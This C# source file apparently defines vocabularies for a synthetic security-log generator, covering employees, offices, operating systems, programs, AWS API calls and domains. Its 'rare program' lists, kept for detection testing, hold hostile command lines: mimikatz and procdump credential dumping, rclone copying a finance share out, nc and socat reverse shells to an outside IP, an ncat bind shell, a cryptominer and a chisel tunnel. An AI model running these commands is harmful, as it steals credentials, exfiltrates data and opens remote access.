namespace ResNetTab.Synthetic;

/// <summary>A place: country code, region and city, with approximate coordinates.</summary>
internal sealed record Place(string Country, string Region, string City, double Lat, double Lon);

/// <summary>A program with its usual path and command line.</summary>
internal sealed record ProgramInfo(string Name, string Folder, string CmdLine);

/// <summary>An operating system as OCSF describes it.</summary>
internal sealed record OsInfo(string Name, string Type, int TypeId, string Version, string Build);

/// <summary>Fixed vocabularies the profiles draw from. Invented but shaped like real estates.</summary>
internal static class Vocabulary
{
    public static readonly string[] FirstNames =
    [
        "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan", "judy", "mallory", "niaj",
        "olivia", "peggy", "rupert", "sybil", "trent", "victor", "walter", "yvonne", "zoe", "amir", "bea", "chen",
        "dmitri", "elena", "farah", "goran", "hana", "ines", "jonas", "kenji", "lena", "mateo", "nora", "omar",
    ];

    public static readonly string[] LastNames =
    [
        "smith", "jones", "garcia", "miller", "davis", "lopez", "wilson", "anderson", "thomas", "taylor", "moore",
        "martin", "lee", "perez", "white", "harris", "clark", "lewis", "young", "walker", "hall", "allen", "king",
    ];

    public static readonly string[] Departments = ["engineering", "finance", "sales", "hr", "it", "legal", "marketing", "support", "research"];

    public static readonly string[] Titles = ["analyst", "engineer", "manager", "director", "specialist", "administrator", "associate"];

    /// <summary>Where employees work (the first is the headquarters).</summary>
    public static readonly Place[] OfficePlaces =
    [
        new("US", "Virginia", "Ashburn", 39.04, -77.49),
        new("US", "California", "San Jose", 37.34, -121.89),
        new("GB", "England", "London", 51.51, -0.13),
        new("DE", "Hesse", "Frankfurt", 50.11, 8.68),
        new("IE", "Leinster", "Dublin", 53.35, -6.26),
    ];

    /// <summary>Places no employee is ever in: new-location logins and attackers come from here.</summary>
    public static readonly Place[] ForeignPlaces =
    [
        new("RU", "Moscow", "Moscow", 55.76, 37.62),
        new("KP", "Pyongyang", "Pyongyang", 39.04, 125.76),
        new("BR", "Sao Paulo", "Sao Paulo", -23.55, -46.63),
        new("NG", "Lagos", "Lagos", 6.52, 3.38),
        new("VN", "Hanoi", "Hanoi", 21.03, 105.85),
        new("IR", "Tehran", "Tehran", 35.69, 51.39),
        new("RO", "Bucharest", "Bucharest", 44.43, 26.10),
    ];

    public static readonly OsInfo[] WorkstationOs =
    [
        new("Windows", "Windows", 100, "10.0.22631", "22631"),
        new("Windows", "Windows", 100, "10.0.19045", "19045"),
        new("macOS", "macOS", 300, "14.4.1", "23E224"),
        new("Ubuntu", "Linux", 200, "22.04", "5.15.0-101"),
    ];

    public static readonly OsInfo[] ServerOs =
    [
        new("Windows Server", "Windows", 100, "10.0.20348", "20348"),
        new("Amazon Linux", "Linux", 200, "2023", "6.1.82-99"),
        new("Ubuntu", "Linux", 200, "22.04", "5.15.0-101"),
    ];

    public static readonly ProgramInfo[] WindowsPrograms =
    [
        new("explorer.exe", @"C:\Windows", @"C:\Windows\Explorer.EXE"),
        new("chrome.exe", @"C:\Program Files\Google\Chrome\Application", @"""C:\Program Files\Google\Chrome\Application\chrome.exe"" --type=renderer"),
        new("msedge.exe", @"C:\Program Files (x86)\Microsoft\Edge\Application", @"""msedge.exe"" --single-argument"),
        new("outlook.exe", @"C:\Program Files\Microsoft Office\root\Office16", @"""OUTLOOK.EXE"" /recycle"),
        new("teams.exe", @"C:\Users\Public\AppData\Local\Microsoft\Teams", @"Teams.exe --process-start-args"),
        new("svchost.exe", @"C:\Windows\System32", @"C:\Windows\system32\svchost.exe -k netsvcs -p"),
        new("powershell.exe", @"C:\Windows\System32\WindowsPowerShell\v1.0", @"powershell.exe -NoProfile -File C:\Scripts\inventory.ps1"),
        new("cmd.exe", @"C:\Windows\System32", @"cmd.exe /c ipconfig /all"),
        new("code.exe", @"C:\Program Files\Microsoft VS Code", @"""Code.exe"" --unity-launch"),
        new("excel.exe", @"C:\Program Files\Microsoft Office\root\Office16", @"""EXCEL.EXE"" /dde"),
        new("onedrive.exe", @"C:\Program Files\Microsoft OneDrive", @"OneDrive.exe /background"),
        new("msiexec.exe", @"C:\Windows\System32", @"C:\Windows\system32\msiexec.exe /V"),
    ];

    public static readonly ProgramInfo[] UnixPrograms =
    [
        new("bash", "/usr/bin", "/bin/bash -l"),
        new("sshd", "/usr/sbin", "sshd: deploy [priv]"),
        new("python3", "/usr/bin", "python3 /opt/app/worker.py --queue default"),
        new("java", "/usr/lib/jvm/java-17/bin", "java -Xmx2g -jar /opt/app/service.jar"),
        new("nginx", "/usr/sbin", "nginx: worker process"),
        new("cron", "/usr/sbin", "/usr/sbin/CRON -f"),
        new("systemd", "/usr/lib/systemd", "/lib/systemd/systemd --user"),
        new("curl", "/usr/bin", "curl -s https://updates.internal.example/health"),
        new("git", "/usr/bin", "git pull --ff-only"),
        new("node", "/usr/bin", "node /srv/web/server.js"),
        new("postgres", "/usr/lib/postgresql/15/bin", "postgres: checkpointer"),
        new("dockerd", "/usr/bin", "/usr/bin/dockerd -H fd://"),
    ];

    /// <summary>Programs that no profile runs: rare-process anomalies launch these.</summary>
    public static readonly ProgramInfo[] RareWindowsPrograms =
    [
        new("mimikatz.exe", @"C:\Users\Public\Downloads", @"mimikatz.exe ""privilege::debug"" ""sekurlsa::logonpasswords"" exit"),
        new("psexec.exe", @"C:\Windows\Temp", @"psexec.exe \\fileserver01 -s cmd.exe"),
        new("procdump64.exe", @"C:\Windows\Temp", @"procdump64.exe -accepteula -ma lsass.exe C:\Windows\Temp\ls.dmp"),
        new("rclone.exe", @"C:\ProgramData\sync", @"rclone.exe copy C:\Shares\Finance remote:bkp --transfers 16"),
        new("nc.exe", @"C:\Users\Public", @"nc.exe -e cmd.exe 185.220.101.7 4444"),
    ];

    /// <summary>Programs that no profile runs on Linux or macOS.</summary>
    public static readonly ProgramInfo[] RareUnixPrograms =
    [
        new("xmrig", "/tmp/.x", "/tmp/.x/xmrig -o pool.minexmr.example:4444 --donate-level 1"),
        new("socat", "/dev/shm", "socat TCP:185.220.101.7:443 EXEC:/bin/sh"),
        new("ncat", "/tmp", "ncat -lvp 31337 -e /bin/bash"),
        new("chisel", "/var/tmp", "chisel client 45.137.21.9:8080 R:socks"),
    ];

    /// <summary>Cloud APIs: service and its operations (first ones most common).</summary>
    public static readonly (string Service, string[] Operations)[] ApiServices =
    [
        ("s3.amazonaws.com", ["GetObject", "PutObject", "ListBuckets", "ListObjectsV2", "HeadObject", "DeleteObject"]),
        ("ec2.amazonaws.com", ["DescribeInstances", "DescribeSecurityGroups", "StartInstances", "StopInstances", "DescribeVolumes"]),
        ("iam.amazonaws.com", ["GetUser", "ListRoles", "ListAttachedRolePolicies", "GetRole", "CreateAccessKey"]),
        ("sts.amazonaws.com", ["AssumeRole", "GetCallerIdentity", "GetSessionToken"]),
        ("lambda.amazonaws.com", ["Invoke", "ListFunctions", "GetFunction", "UpdateFunctionCode"]),
        ("dynamodb.amazonaws.com", ["GetItem", "Query", "PutItem", "DescribeTable", "Scan"]),
        ("kms.amazonaws.com", ["Decrypt", "GenerateDataKey", "DescribeKey", "Encrypt"]),
        ("logs.amazonaws.com", ["PutLogEvents", "DescribeLogStreams", "FilterLogEvents"]),
        ("secretsmanager.amazonaws.com", ["GetSecretValue", "DescribeSecret", "ListSecrets"]),
    ];

    public static readonly string[] NormalUserAgents =
    [
        "aws-cli/2.15.30 Python/3.11.8 Windows/10 exe/AMD64 prompt/off command/s3.ls",
        "aws-cli/2.15.30 Python/3.11.8 Darwin/23.4.0 exe/x86_64 prompt/off",
        "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#5.15.0 lang/python#3.11.8",
        "console.amazonaws.com",
        "aws-sdk-java/2.25.16 Linux/6.1.82 OpenJDK_64-Bit_Server_VM/17.0.10",
        "Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.42.0",
        "aws-sdk-go-v2/1.26.0 os/linux lang/go#1.22.1 md/GOOS#linux",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
    ];

    /// <summary>Clients no profile uses: unusual-API-client anomalies use these.</summary>
    public static readonly string[] UnusualUserAgents =
    [
        "python-requests/2.31.0",
        "curl/8.5.0",
        "Go-http-client/1.1",
        "aws-cli/1.16.28 Python/2.7.16 Linux/4.19.0-kali1-amd64 botocore/1.12.18",
        "Mozilla/5.0 zgrab/0.x",
        "Pacu/1.5.2 (aws exploitation framework)",
    ];

    public static readonly string[] BrowserAgents =
    [
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36",
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/123.0.0.0 Safari/537.36 Edg/123.0.2420.81",
        "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:124.0) Gecko/20100101 Firefox/124.0",
    ];

    /// <summary>Public domains resolved and contacted in normal traffic (first ones most popular).</summary>
    public static readonly string[] PopularDomains =
    [
        "login.microsoftonline.com", "outlook.office365.com", "www.google.com", "github.com", "slack.com",
        "s3.amazonaws.com", "teams.microsoft.com", "zoom.us", "api.github.com", "update.googleapis.com",
        "ocsp.digicert.com", "cdn.jsdelivr.net", "registry.npmjs.org", "pypi.org", "docs.aws.amazon.com",
        "www.salesforce.com", "fonts.gstatic.com", "clients4.google.com", "www.linkedin.com", "dropbox.com",
    ];

    public static readonly string[] InternalDomains =
    [
        "intranet.corp.example", "wiki.corp.example", "jira.corp.example", "git.corp.example", "fileserver01.corp.example",
        "dc01.corp.example", "vault.corp.example", "grafana.corp.example",
    ];

    public static readonly string[] DnsTypes = ["A", "A", "A", "AAAA", "AAAA", "CNAME", "TXT", "MX", "SRV", "PTR"];

    public static readonly (int Port, string Service, string Protocol)[] CommonServices =
    [
        (443, "https", "tcp"), (443, "https", "tcp"), (443, "https", "tcp"), (80, "http", "tcp"), (22, "ssh", "tcp"),
        (445, "microsoft-ds", "tcp"), (3389, "ms-wbt-server", "tcp"), (5432, "postgresql", "tcp"), (8080, "http-alt", "tcp"),
        (123, "ntp", "udp"), (389, "ldap", "tcp"), (88, "kerberos", "tcp"),
    ];

    public static readonly string[] FileExtensions = [".docx", ".xlsx", ".pdf", ".txt", ".csv", ".json", ".log", ".pptx", ".png", ".zip"];

    public static readonly string[] FileStems = ["report", "budget", "notes", "invoice", "export", "config", "backup", "summary", "roadmap", "data"];
}
